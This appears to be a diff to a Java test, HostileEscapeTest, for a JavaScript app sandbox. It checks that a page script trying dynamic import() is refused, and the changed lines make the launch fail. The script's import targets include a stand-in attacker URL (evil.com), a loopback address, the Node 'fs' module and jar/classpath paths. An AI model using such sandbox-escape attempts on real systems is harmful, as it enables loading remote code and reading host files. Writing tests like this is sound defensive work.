@@ -233,11 +233,13 @@ class HostileEscapeTest {
                 + " 'https://evil.com/x.js', 'http://127.0.0.1/x.js', 'fs', 'node:fs', 'jar:file:/x!/y.js', 'classpath:x.js'];"
                 + " const attempts = specs.map(s => { try { return import(s).then(() => 'loaded ' + s, e => 'rejected'); } catch (e) { return Promise.resolve('threw'); } });"
                 + " Promise.all(attempts).then(r => log('imports', r.filter(x => x !== 'rejected').join() || 'all rejected', typeof globalThis.imported)); }})";
-        // A module that mentions import() or import.meta is refused whole when it is compiled.
+        // A module with an import call is refused whole when it is compiled: here the first page, so the launch fails.
         try (var run = harness.run(TestApps.app("pages/index/index.js", page, "utils/a.js", "globalThis.imported = 1;"))) {
+            run.session().close();
             assertThat(run.events().logs()).anyMatch(l -> l.contains("import() and import.meta are not allowed"))
-                    .noneMatch(l -> l.startsWith("imports")).noneMatch(HostileEscapeTest::leaksHost);
-            assertThat(run.session().ended()).isFalse();
+                    .noneMatch(l -> l.startsWith("imports")).noneMatch(HostileEscapeTest::leaksHost)
+                    .contains("launch failed: the first page pages/index/index failed to load or did not call Page()");
+            assertThat(run.session().exitCode()).isEqualTo(1);
         }
     }
 
